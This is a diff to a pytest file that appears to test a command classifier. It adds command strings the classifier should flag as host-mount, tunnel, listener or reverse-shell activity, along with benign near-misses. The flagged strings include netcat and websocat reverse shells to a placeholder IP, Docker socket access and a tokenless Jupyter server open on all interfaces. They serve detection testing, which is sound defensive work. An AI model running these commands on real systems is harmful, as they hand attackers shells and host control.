@@ -5,6 +5,11 @@ import pytest
 from tests.support.commands import facts_of
 
 HITS = [
+    ("nc -U /run/docker.sock", "mounts-host"),
+    ("socat - UNIX-CONNECT:/var/run/docker.sock", "mounts-host"),
+    ("wg-quick up /tmp/x.conf", "tunnels"),
+    ("zerotier-cli join 1", "tunnels"),
+    ("jupyter lab --ip=0.0.0.0 --NotebookApp.token=''", "listens"),
     ("nc -e/bin/sh 192.0.2.7 1", "reverse-shell"),
     ("toybox nc 192.0.2.7 1 sh", "reverse-shell"),
     ("websocat ws://192.0.2.7 sh-c:bash", "reverse-shell"),
@@ -48,6 +53,9 @@ HITS = [
     ("/usr/sbin/sshd -p 2222", "listens"),
 ]
 MISSES = [
+    ("wg-quick up wg0", "tunnels"),
+    ("jupyter lab --no-browser", "listens"),
+    ("nc -U /run/app.sock", "mounts-host"),
     ("ssh -L 127.0.0.1:1:a:2 h", "tunnels"),
     ("ssh h grep -R x .", "tunnels"),
     ("nc -h", "reverse-shell"),
